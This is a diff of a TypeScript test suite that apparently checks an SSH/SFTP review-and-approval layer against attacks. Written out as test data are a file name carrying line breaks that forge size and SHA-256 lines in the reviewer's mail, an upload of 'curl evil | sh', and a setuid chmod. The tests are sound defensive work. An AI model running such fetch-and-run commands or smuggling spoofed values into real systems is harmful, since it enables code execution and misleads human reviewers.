@@ -148,19 +148,24 @@ describe('ssh data plane under attack', () => {
     const write = (sftp: SFTPWrapper, handle: Buffer, data: Buffer, position = 0): Promise<Error | undefined> =>
       new Promise((resolve) => sftp.write(handle, data, 0, data.length, position, (e) => resolve(e ?? undefined)));
 
+    /** The reviewer's mail about a held change that mentions `mention`, denied; the change fails with the denial. */
+    const deniedReview = async (mention: string, pending: Promise<Error | undefined>): Promise<string> => {
+      const mail = await waitForMail(stack.cp.outboxDir, 'bob@example.com', mention);
+      expect((await postDecision(mail.link, mail.token, 'deny')).status).toBe(200);
+      expect((await pending)?.message).toMatch(/denied/);
+      return mail.text;
+    };
+
     it('shows the reviewer an upload path with a line break quoted, so it cannot pass for the size and SHA-256 lines', async () => {
       const { sftp, end } = await openSftp('alice', ['support']);
       try {
         const path = `${stack.sshd.dataDir}/spoof\nsize: 3 bytes\nsha256: ${'0'.repeat(64)}\nfirst lines:\nhi`;
         const handle = await openWrite(sftp, path);
         expect(await write(sftp, handle, Buffer.from('curl evil | sh\n'))).toBeUndefined();
-        const closed = new Promise<Error | undefined>((resolve) => sftp.close(handle, (e) => resolve(e ?? undefined)));
-        const mail = await waitForMail(stack.cp.outboxDir, 'bob@example.com', 'spoof');
-        expect(mail.text.match(/^\| size: /gm)).toEqual(['| size: ']);
-        expect(mail.text.match(/^\| sha256: /gm)).toEqual(['| sha256: ']);
-        expect(mail.text).toContain('spoof\\nsize: 3 bytes');
-        expect((await postDecision(mail.link, mail.token, 'deny')).status).toBe(200);
-        expect((await closed)?.message).toMatch(/denied/);
+        const text = await deniedReview('spoof', new Promise((resolve) => sftp.close(handle, (e) => resolve(e ?? undefined))));
+        expect(text.match(/^\| size: /gm)).toEqual(['| size: ']);
+        expect(text.match(/^\| sha256: /gm)).toEqual(['| sha256: ']);
+        expect(text).toContain('spoof\\nsize: 3 bytes');
       } finally {
         end();
       }
@@ -171,11 +176,8 @@ describe('ssh data plane under attack', () => {
       try {
         const target = join(stack.sshd.dataDir, 'plain-file');
         writeFileSync(target, 'x\n', { mode: 0o644 });
-        const chmod = new Promise<Error | undefined>((resolve) => sftp.chmod(target, 0o4755, (e) => resolve(e ?? undefined)));
-        const mail = await waitForMail(stack.cp.outboxDir, 'bob@example.com', 'plain-file');
-        expect(mail.text).toContain(`| sftp setstat ${target} mode 4755\n`);
-        expect((await postDecision(mail.link, mail.token, 'deny')).status).toBe(200);
-        expect((await chmod)?.message).toMatch(/denied/);
+        const text = await deniedReview('plain-file', new Promise((resolve) => sftp.chmod(target, 0o4755, (e) => resolve(e ?? undefined))));
+        expect(text).toContain(`| sftp setstat ${target} mode 4755\n`);
       } finally {
         end();
       }
